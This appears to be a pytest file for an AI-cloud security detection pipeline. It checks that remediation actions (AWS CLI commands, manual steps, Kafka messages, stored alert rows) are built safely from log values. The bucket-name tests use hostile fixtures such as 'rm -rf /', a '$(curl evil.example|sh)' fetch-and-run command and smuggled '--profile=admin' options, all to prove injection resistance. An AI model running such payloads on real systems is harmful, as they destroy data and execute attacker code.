"""Machine-readable remediation: every rule declares actions, every positive example's alert carries them
filled in, values from logs stay data (one argv token each), and the remediation topic's messages."""

from __future__ import annotations

import subprocess
import time

import orjson
import pytest

from schemas.finding import Finding
from schemas.remediation import RemediationAction
from streams.detect.alerts import AlertTally, alert_for, alert_row
from streams.detect.base import Rule
from streams.detect.engine import discover_rules
from streams.detect.examples import cloudtrail, iam_user
from streams.detect.remediation import (
    CONTAIN_PRINCIPAL,
    ActionTemplate,
    Doc,
    Param,
    actions_for,
    aws,
    manual,
    opt,
    remediation_message,
)
from streams.detect.rules import s3_ai_data_bucket_acl_public
from streams.runtime.kafka import Topics
from streams.settings import Settings

RULES = [rule for rule in discover_rules() if rule.module_name]


def _positive_findings(rule: Rule) -> list[tuple[str, Finding]]:
    return [(example.name, finding) for example in rule.examples if example.expect
            for finding in rule.example_findings(example)]


def _alert(finding: Finding) -> dict:
    return alert_for(finding, AlertTally("alert-1", 3, 2, finding.event["time"], finding.event["time"]))


def test_every_rule_module_declares_remediation_actions() -> None:
    assert len(RULES) >= 37
    assert [rule.id for rule in RULES if not rule.meta.actions] == []


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.id)
def test_every_positive_example_alert_carries_filled_actions(rule: Rule) -> None:
    findings = _positive_findings(rule)
    assert findings, "a rule's positive examples raise findings"
    for name, finding in findings:
        assert finding.actions, f"{name}: no remediation action could be filled"
        for action in finding.actions:
            template = next(t for t in rule.meta.actions if t.operation == action.operation
                            and t.service == action.service and t.fill({**action.parameters}) == action)
            assert set(template.required()) <= set(action.parameters), name
            assert all(value.strip() for value in action.parameters.values()), name
            assert all(isinstance(token, str) and token for token in action.cli), name
            assert not any("(account-wide)" in token for token in action.cli), name
        carried = _alert(finding)["unmapped"]["remediation_actions"]
        assert carried == [action.model_dump(mode="json") for action in finding.actions]
        assert orjson.loads(alert_row(finding, "alert-1", 3, 0, 0, {}, 0)["remediation_actions"]) == carried


def test_every_rule_specific_template_is_filled_by_some_positive_example() -> None:
    """A template naming a parameter that no finding has (a typo, a missing context key) is dead code."""
    unfilled, shared_filled = [], set()
    for rule in RULES:
        used = {(a.service, a.operation) for _, finding in _positive_findings(rule) for a in finding.actions}
        for template in rule.meta.actions:
            if template in CONTAIN_PRINCIPAL:
                shared_filled |= {(template.service, template.operation)} & used
            elif (template.service, template.operation) not in used:
                unfilled.append(f"{rule.id}: {template.operation}")
    assert unfilled == []
    assert shared_filled == {(t.service, t.operation) for t in CONTAIN_PRINCIPAL}


def _acl_finding(bucket: str) -> Finding:
    rule = next(rule for rule in RULES if rule.id == "s3_ai_data_bucket_acl_public")
    event = cloudtrail("PutBucketAcl", "s3.amazonaws.com", params={"bucketName": bucket, "x-amz-acl": ["public-read"]})
    [finding] = rule.findings(event, rule.example_context())
    return finding


@pytest.mark.parametrize("bucket", ["training-data-x; rm -rf /",
                                    "training-data-$(curl evil.example|sh) `id` 'q\" \n",
                                    "--training-data --profile=admin"])
def test_a_hostile_bucket_name_stays_one_argv_token(bucket: str) -> None:
    finding = _acl_finding(bucket)
    [put_acl, _block] = finding.actions
    assert put_acl.cli == ("aws", "s3api", "put-bucket-acl", f"--bucket={bucket}", "--acl=private")
    assert put_acl.parameters == {"bucket": bucket}
    # What a SOAR does with it, without a shell: each token arrives whole, as one argument.
    echoed = subprocess.run(["printf", r"%s\0", *put_acl.cli[1:]], capture_output=True, check=True, text=True)
    assert echoed.stdout.split("\0")[:-1] == list(put_acl.cli[1:])


def test_a_value_no_argv_can_carry_leaves_the_action_out() -> None:
    finding = _acl_finding("training-data\x00x")
    assert finding.actions == ()


def test_a_json_document_token_is_built_as_data() -> None:
    role = 'ml"role\\},{"Effect":"Allow'
    finding = Finding(detection="t", title="t", severity="high", principal="p",
                      event={"time": 1_741_082_400_000, "actor": f"arn:aws:sts::111122223333:assumed-role/{role}/s"},
                      description="d", remediation="r")
    [revoke] = actions_for(CONTAIN_PRINCIPAL, finding)
    document = orjson.loads(revoke.cli[-1].removeprefix("--policy-document="))
    assert document["Statement"] == [{"Effect": "Deny", "Action": ["*"], "Resource": ["*"], "Condition": {
        "DateLessThan": {"aws:TokenIssueTime": "2025-03-04T10:00:00Z"}}}]
    assert revoke.cli[3] == f"--role-name={role}"


def test_the_principal_is_contained_by_its_key_or_its_role_sessions() -> None:
    user = cloudtrail("InvokeModel", identity=iam_user("ci-bot", key="AKIAEXAMPLECIBOT0001"))
    finding = Finding(detection="t", title="t", severity="high", principal=user["actor"], event=user,
                      description="d", remediation="r")
    [deactivate] = actions_for(CONTAIN_PRINCIPAL, finding)
    assert deactivate.cli == ("aws", "iam", "update-access-key", "--user-name=ci-bot",
                              "--access-key-id=AKIAEXAMPLECIBOT0001", "--status", "Inactive")
    gateway = Finding(detection="t", title="t", severity="low", principal="10.0.0.1",
                      event={"time": 0, "src_ip": "10.0.0.1"}, description="d", remediation="r")
    assert actions_for(CONTAIN_PRINCIPAL, gateway) == ()


def test_account_wide_and_bucket_block_removal_get_their_own_action() -> None:
    rule = next(rule for rule in RULES if rule.id == "s3_ai_data_bucket_public_access_block_removed")
    by_example = {name: [(a.service, a.parameters) for a in finding.actions]
                  for name, finding in _positive_findings(rule)}
    assert by_example["account-wide block deleted"] == [("s3control", {"account": "111122223333"})]
    assert by_example["block deleted on a model bucket"] == [("s3api", {"bucket": "llm-weights-eu"})]


def _selectors_finding(**params: object) -> Finding | None:
    rule = next(rule for rule in RULES if rule.id == "cloudtrail_bedrock_data_events_off")
    event = cloudtrail("PutEventSelectors", "cloudtrail.amazonaws.com", params={"trailName": "org-trail", **params})
    findings = rule.findings(event, rule.example_context())
    return findings[0] if findings else None


def test_bedrock_data_events_are_added_to_the_trails_own_selectors() -> None:
    """PutEventSelectors replaces a trail's selectors: the command must carry the ones it has, unchanged."""
    management = {"name": "mgmt \"writes\"", "fieldSelectors": [
        {"field": "eventCategory", "equals": ["Management"]}, {"field": "readOnly", "equals": ["false"]},
        {"field": "eventSource", "notEquals": ["kms.amazonaws.com"]}]}
    s3 = {"fieldSelectors": [{"field": "eventCategory", "equals": ["Data"]},
                             {"field": "resources.type", "equals": ["AWS::S3::Object"]},
                             {"field": "resources.ARN", "startsWith": ["arn:aws:s3:::training-data/"]}]}
    finding = _selectors_finding(advancedEventSelectors=[management, s3])
    assert finding is not None
    [put] = finding.actions
    assert put.cli[:4] == ("aws", "cloudtrail", "put-event-selectors", "--trail-name=org-trail")
    selectors = orjson.loads(put.cli[4].removeprefix("--advanced-event-selectors="))
    assert selectors[:2] == [
        {"Name": 'mgmt "writes"', "FieldSelectors": [
            {"Field": "eventCategory", "Equals": ["Management"]}, {"Field": "readOnly", "Equals": ["false"]},
            {"Field": "eventSource", "NotEquals": ["kms.amazonaws.com"]}]},
        {"FieldSelectors": [{"Field": "eventCategory", "Equals": ["Data"]},
                            {"Field": "resources.type", "Equals": ["AWS::S3::Object"]},
                            {"Field": "resources.ARN", "StartsWith": ["arn:aws:s3:::training-data/"]}]},
    ]
    added = [(s["FieldSelectors"][0], s["FieldSelectors"][1]["Equals"]) for s in selectors[2:]]
    assert added == [({"Field": "eventCategory", "Equals": ["Data"]}, [kind]) for kind in (
        "AWS::Bedrock::AgentAlias", "AWS::Bedrock::InlineAgent", "AWS::Bedrock::KnowledgeBase",
        "AWS::Bedrock::FlowAlias", "AWS::Bedrock::Model", "AWS::Bedrock::AsyncInvoke",
        "AWS::BedrockAgentCore::Runtime")]
    # Added to, not judged again: with them the trail no longer has the gap.
    assert _selectors_finding(advancedEventSelectors=[management, s3, selectors[2]]) is None


def test_bedrock_data_events_on_selectors_it_cannot_carry_over_is_a_manual_step() -> None:
    basic = _selectors_finding(eventSelectors=[{"readWriteType": "All", "includeManagementEvents": True,
                                                "dataResources": [{"type": "AWS::S3::Object", "values": []}]}])
    unknown = _selectors_finding(advancedEventSelectors=[
        {"fieldSelectors": [{"field": "eventCategory", "equals": ["Management"]}], "futureOption": True}])
    # A value it would have to drop (not a string) is not carried over either.
    lossy = _selectors_finding(advancedEventSelectors=[
        {"fieldSelectors": [{"field": "eventCategory", "equals": ["Management", 7]}]}])
    for finding in (basic, unknown, lossy):
        assert finding is not None
        assert [(a.kind, a.parameters) for a in finding.actions] == [
            ("manual", {"trail": "org-trail", "region": "us-east-1"})]


@pytest.mark.parametrize(("build", "problem"), [
    (lambda: ActionTemplate(kind="aws_cli", service="s3api", operation="PutBucketAcl", description="d" * 10,
                            cli=("sh", "-c", Param(name="bucket")), risk="low", reversible=True), "starts with"),
    (lambda: ActionTemplate(kind="manual", service="egress-proxy", operation="BlockHost", description="d" * 10,
                            cli=("aws", Param(name="host")), risk="low", reversible=True), "no command line"),
    (lambda: manual("egress-proxy", "BlockHost", description="blocks something"), "name what it acts on"),
    (lambda: aws("s3api", "PutBucketAcl", "put-bucket-acl", Param(name="Bucket Name"), description="d" * 10,
                 risk="low", reversible=True), "pattern"),
])
def test_malformed_templates_fail_at_import(build, problem: str) -> None:
    with pytest.raises(ValueError, match=problem):
        build()


def test_a_filled_action_round_trips_as_json() -> None:
    finding = _acl_finding("ml-datasets-prod")
    for action in finding.actions:
        assert RemediationAction.model_validate_json(action.model_dump_json()) == action


def test_the_remediation_message_is_keyed_by_alert_and_version() -> None:
    finding = _acl_finding("ml-datasets-prod")
    alert = _alert(finding)
    key, value = remediation_message(alert)
    message = orjson.loads(value)
    assert key == b"alert-1:3" == alert["metadata"]["uid"].encode()
    assert message["alert_id"] == "alert-1" and message["alert_version"] == 3
    assert message["activity"] == "Update"
    assert message["detection"] == s3_ai_data_bucket_acl_public.META.id
    assert message["account"] == "111122223333" and message["region"] == "us-east-1"
    assert message["runbook"] == s3_ai_data_bucket_acl_public.META.remediation
    assert [a["operation"] for a in message["actions"]] == ["PutBucketAcl", "PutPublicAccessBlock"]
    assert remediation_message(alert) == (key, value), "the same alert, the same message"
    bare = Finding(detection="t", title="t", severity="low", principal="p", event={"time": 0}, description="d",
                   remediation="r")
    assert remediation_message(_alert(bare)) is None
    assert "remediation_actions" not in _alert(bare)["unmapped"]


def test_the_remediation_topic_is_one_of_aispms_topics() -> None:
    topics = Topics.from_settings(Settings(topic_prefix="corp.aispm."))
    assert topics.remediation == "corp.aispm.remediation"
    assert topics.remediation in topics.all()


def test_an_option_value_cannot_become_another_option() -> None:
    template = aws("sagemaker", "StopNotebookInstance", "stop-notebook-instance",
                   opt("--notebook-instance-name", "notebook"), description="stop the notebook", risk="medium",
                   reversible=True)
    action = template.fill({"notebook": "--profile=admin", "region": "us-east-1"})
    assert action is not None
    assert action.cli[3:] == ("--notebook-instance-name=--profile=admin", "--region=us-east-1")
    assert Doc(template={"a": [Param(name="x")]}).names() == {"x"}


def test_alert_rows_keep_their_actions_in_the_store(chdb_data_dir) -> None:
    from streams.runtime.store import Store
    from tests.conftest import fresh_database_settings

    store = Store(fresh_database_settings(chdb_data_dir))
    try:
        store.migrate()
        finding = _acl_finding("training-data-x; rm -rf /")
        bare = Finding(detection="t", title="t", severity="low", principal="p", event={"time": 0, "event_id": "e"},
                       description="d", remediation="r")
        now = int(time.time() * 1000)  # rows of 1970 would be past the tables' retention TTL
        rows = [alert_row(f, alert_id, 1, now, now, _alert(f), now) for f, alert_id in ((finding, "a1"), (bare, "a2"))]
        assert store.land_alerts(rows) == 2
        stored = dict(store.client.query(
            "SELECT alert_id, remediation_actions FROM alerts_current ORDER BY alert_id").result_rows)
        assert [action["cli"][3] for action in orjson.loads(stored["a1"])] == [
            "--bucket=training-data-x; rm -rf /", "--bucket=training-data-x; rm -rf /"]
        assert orjson.loads(stored["a2"]) == []
    finally:
        store.close()
